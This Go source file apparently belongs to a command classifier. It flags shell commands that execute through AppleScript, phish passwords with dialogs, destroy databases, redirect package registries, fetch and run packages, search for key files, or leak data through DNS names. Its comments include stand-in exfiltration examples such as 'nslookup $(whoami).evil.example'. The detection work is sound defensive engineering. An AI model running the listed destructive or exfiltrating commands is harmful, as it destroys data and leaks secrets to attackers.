package effects

import (
	"slices"
	"strings"

	"github.com/coworkbridge/coworkbridge/classifier/facts"
	"github.com/coworkbridge/coworkbridge/internal/lazyregexp"
	"github.com/coworkbridge/coworkbridge/internal/nameset"
)

// What a command does through another program's own language: AppleScript and JXA telling the
// Mac to run or ask for something, a database's own administration tool, a package manager's
// idea of where packages come from, a program runner that installs before it runs, a name sent
// to a DNS server. Each is an effect like any other, judged by the effect rules.

// automationScript is AppleScript or JavaScript for Automation that runs a command through
// another application (Terminal's do script, System Events' keystrokes, JXA's doShellScript and
// doScript) or asks the user for a secret in a dialog that hides what is typed.
var (
	automationExec  = lazyregexp.New(`(?is)\bdo\s+script\b|\bkeystroke\b|\bkey\s+code\b|doShellScript\s*\(|\.doScript\s*\(|\.keystroke\s*\(`)
	automationPhish = lazyregexp.New(`(?is)with\s+hidden\s+answer|hiddenAnswer\s*:\s*true|display\s+dialog[^\n]{0,200}(password|passcode|passphrase|keychain|admin)|displayDialog\s*\([^)]{0,200}(password|passcode|passphrase|keychain|admin)`)
)

// automationEffects are what osascript's scripts (-e, or a here-document's text as its operand)
// make the Mac do. A do shell script's command is judged as a command of its own (facts).
func automationEffects(cmd *facts.Command) []Effect {
	text := strings.Join(cmd.Args, "\n")
	var out []Effect
	if automationExec.MatchString(text) {
		out = append(out, New(EffectExec, cmd.Name, "via", "automation", "what", "a command typed or run by another application"))
	}
	if automationPhish.MatchString(text) {
		out = append(out, New(EffectCredential, cmd.Name, "what", "a password asked in a dialog", "phish", ""))
	}
	return out
}

// serviceDestroy are the administration commands of databases and hosted services that destroy
// what they serve, whatever SQL they do not show.
var serviceDestroy = []subcommand{
	{prog: "mysqladmin", test: func(c *facts.Command) bool {
		return slices.ContainsFunc(facts.Operands(c.Args), func(a string) bool { return strings.EqualFold(a, "drop") })
	}, what: "drops a MySQL database"},
	{prog: "dropdb", what: "drops a PostgreSQL database"},
	{prog: "supabase", words: []string{"db", "reset"}, anyFlag: []string{"--linked", "--db-url"}, what: "resets a remote Supabase database"},
	{prog: "heroku", words: []string{"pg:reset"}, what: "resets a Heroku database"},
	{prog: "redis-cli", test: func(c *facts.Command) bool {
		return slices.ContainsFunc(facts.Operands(c.Args), func(a string) bool { return strings.EqualFold(a, "flushall") || strings.EqualFold(a, "flushdb") })
	}, what: "empties a Redis server"},
	{prog: "prisma", words: []string{"migrate", "reset"}, anyFlag: []string{"--force", "-f"}, what: "drops and recreates a database"},
}

// railsDestroy are Rails' tasks that drop a database's data; Rails refuses them on a protected
// environment unless DISABLE_DATABASE_ENVIRONMENT_CHECK is set, which is the tell.
var railsDestroy = lazyregexp.New(`^db:(drop|reset|purge|schema:load|structure:load|truncate_all|seed:replant)(:|$)`)

// serviceEffects finds a database or service destroyed by its own administration tool.
func serviceEffects(cmd *facts.Command) []Effect {
	for _, s := range serviceDestroy {
		if s.matches(cmd) {
			return []Effect{New(EffectDatabase, cmd.Name, "destroy", "", "what", s.what)}
		}
	}
	if cmd.Name == "rails" || cmd.Name == "rake" || strings.HasSuffix(cmd.Exe, "bin/rails") || strings.HasSuffix(cmd.Exe, "bin/rake") {
		unchecked := slices.ContainsFunc(cmd.Assigns, func(a string) bool {
			name, value, _ := strings.Cut(a, "=")
			return name == "DISABLE_DATABASE_ENVIRONMENT_CHECK" && value != "" && value != "0"
		})
		for _, a := range facts.Operands(cmd.Args) {
			if railsDestroy.MatchString(a) && unchecked {
				return []Effect{New(EffectDatabase, cmd.Name, "destroy", "", "what", "a database, with Rails' environment check switched off")}
			}
		}
	}
	return nil
}

// registryVars are the environment variables that tell a package manager or toolchain where
// packages, modules and their checksums come from, or what runs during a build.
var registryVars = nameset.Of(
	"GOPROXY", "GONOSUMDB", "GONOSUMCHECK", "GOINSECURE", "GONOPROXY", "GOSUMDB",
	"GOPRIVATE", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "UV_INDEX_URL",
	"UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "NPM_CONFIG_REGISTRY",
	"npm_config_registry", "YARN_REGISTRY", "YARN_NPM_REGISTRY_SERVER", "BUN_CONFIG_REGISTRY",
	"CARGO_REGISTRIES_CRATES_IO_PROTOCOL", "GEM_SOURCE", "POETRY_REPOSITORIES", "PIP_CONFIG_FILE",
	"NPM_CONFIG_USERCONFIG", "GIT_CONFIG_GLOBAL",
)

// goflagsExec are go command flags that run a program of the caller's choice or swap the files
// a build reads.
var goflagsExec = lazyregexp.New(`(^|\s)-(toolexec|exec|overlay|modfile)\b`)

// registryConfig are the commands that point a package manager at another registry.
var registryConfig = []subcommand{
	{prog: "npm", words: []string{"config", "set"}, test: setsRegistry, what: "npm's registry"},
	{prog: "npm", words: []string{"set"}, test: setsRegistry, what: "npm's registry"},
	{prog: "pnpm", words: []string{"config", "set"}, test: setsRegistry, what: "pnpm's registry"},
	{prog: "yarn", words: []string{"config", "set"}, test: setsRegistry, what: "yarn's registry"},
	{prog: "pip", words: []string{"config", "set"}, test: setsIndex, what: "pip's index"},
	{prog: "pip3", words: []string{"config", "set"}, test: setsIndex, what: "pip's index"},
	{prog: "poetry", words: []string{"source", "add"}, what: "poetry's package source"},
	{prog: "gem", words: []string{"sources"}, anyFlag: []string{"--add", "-a"}, what: "RubyGems' source"},
	{prog: "bundle", words: []string{"config"}, test: func(c *facts.Command) bool {
		return slices.ContainsFunc(c.Args, func(a string) bool { return strings.HasPrefix(strings.ToLower(a), "mirror.") })
	}, what: "bundler's mirror"},
}

func setsRegistry(c *facts.Command) bool {
	return slices.ContainsFunc(c.Args, func(a string) bool { return strings.Contains(strings.ToLower(a), "registry") })
}

func setsIndex(c *facts.Command) bool {
	return slices.ContainsFunc(c.Args, func(a string) bool {
		a = strings.ToLower(a)
		return strings.Contains(a, "index-url") || strings.Contains(a, "trusted-host")
	})
}

// redirectEffects finds where packages, modules or sources are made to come from elsewhere: git
// rewriting a host's URLs (url.<base>.insteadOf), a toolchain's proxy or checksum database
// changed or switched off, a registry set, or build flags that run a program.
func redirectEffects(cmd *facts.Command) []Effect {
	redirect := func(what string) []Effect {
		return []Effect{New(EffectConfig, cmd.Name, "key", what, "redirect", "")}
	}
	for _, s := range registryConfig {
		if s.matches(cmd) {
			return redirect(s.what)
		}
	}
	switch cmd.Name {
	case "git":
		for _, a := range cmd.Args {
			if l := strings.ToLower(a); strings.HasPrefix(l, "url.") && (strings.HasSuffix(l, ".insteadof") || strings.HasSuffix(l, ".pushinsteadof")) {
				return redirect(a)
			}
		}
	case "go":
		if ops := facts.Operands(cmd.Args); len(ops) > 0 && ops[0] == "env" && slices.Contains(cmd.Args, "-w") {
			for _, a := range ops[1:] {
				if e := assignedRedirect(a); e != "" {
					return redirect(e)
				}
			}
		}
	case "export", "declare", "typeset", "setenv", "launchctl":
		for _, a := range cmd.Args {
			if e := assignedRedirect(a); e != "" {
				return redirect(e)
			}
		}
		if cmd.Name == "launchctl" || cmd.Name == "setenv" {
			if ops := facts.Operands(cmd.Args); len(ops) >= 2 && registryVars.Has(ops[len(ops)-2]) {
				return redirect(ops[len(ops)-2])
			}
		}
	}
	for _, a := range cmd.Assigns {
		if e := assignedRedirect(a); e != "" {
			return redirect(e)
		}
	}
	return nil
}

// assignedRedirect is the variable NAME=value sets when it redirects packages ("" for none):
// a registry variable set to anything but empty or the default, or GOFLAGS with a flag that runs
// a program.
func assignedRedirect(a string) string {
	name, value, ok := strings.Cut(a, "=")
	if !ok || value == "" {
		return ""
	}
	switch {
	case name == "GOFLAGS":
		if goflagsExec.MatchString(value) {
			return name
		}
	case name == "GOPROXY" && (value == "https://proxy.golang.org,direct" || value == "https://proxy.golang.org"):
	case name == "GOSUMDB" && value == "sum.golang.org":
	case registryVars.Has(name):
		return name
	}
	return ""
}

// fetchRunners install a package from the registry and run it in one step, with no prompt.
var fetchRunners = nameset.Of("bunx", "pnpx")

// runnerEffects finds a package fetched and run at once: npx -y or --yes, npm exec --yes,
// pnpm dlx, yarn dlx, bunx. A package in the project's own node_modules runs without a fetch
// (npx prettier), and is not one.
func runnerEffects(cmd *facts.Command) []Effect {
	ops := facts.Operands(cmd.Args)
	yes := slices.ContainsFunc(cmd.Args, func(a string) bool { return a == "-y" || a == "--yes" || a == "--yes=true" })
	pkg := ""
	switch {
	case cmd.Name == "npx" && yes && len(ops) > 0:
		pkg = ops[0]
	case cmd.Name == "npm" && len(ops) > 1 && (ops[0] == "exec" || ops[0] == "x") && yes:
		pkg = ops[1]
	case (cmd.Name == "pnpm" || cmd.Name == "yarn") && len(ops) > 1 && ops[0] == "dlx":
		pkg = ops[1]
	case fetchRunners.Has(cmd.Name) && len(ops) > 0:
		pkg = ops[0]
	}
	if pkg == "" {
		return nil
	}
	return []Effect{New(EffectInstall, cmd.Name, "from", "registry:"+pkg, "run", "")}
}

// indexSearchers query the Mac's file index (Spotlight) or a locate database: a query for key
// files finds every one on the disk without walking it.
var indexSearchers = nameset.Of("mdfind", "locate", "plocate", "mlocate", "glocate")

// indexSearchEffects finds a search of the file index for key files and credential stores.
func indexSearchEffects(cmd *facts.Command) []Effect {
	if !indexSearchers.Has(cmd.Name) {
		return nil
	}
	for _, a := range facts.Operands(cmd.Args) {
		if keyFileGlob.MatchString(a) {
			return []Effect{New(EffectCredential, cmd.Name, "what", "an index search for key files", "search", a)}
		}
	}
	return nil
}

// dnsTools resolve a name they are given: what the name holds reaches whoever serves its domain.
var dnsTools = nameset.Of("dig", "nslookup", "host", "drill", "dnsget", "kdig",
	"delv", "resolvectl", "dscacheutil", "ping", "ping6", "traceroute")

// dnsEffects finds data sent out as a DNS name: a name built from a command's output or a
// variable (nslookup $(whoami).evil.example, dig $TOKEN.x.example).
func dnsEffects(cmd *facts.Command) []Effect {
	if !dnsTools.Has(cmd.Name) {
		return nil
	}
	for _, a := range facts.Operands(cmd.Args) {
		if strings.Contains(a, ".") && strings.ContainsAny(a, "$`") {
			return []Effect{New(EffectSend, cmd.Name, "data", "dns-name", "to", "dns:"+a)}
		}
	}
	return nil
}
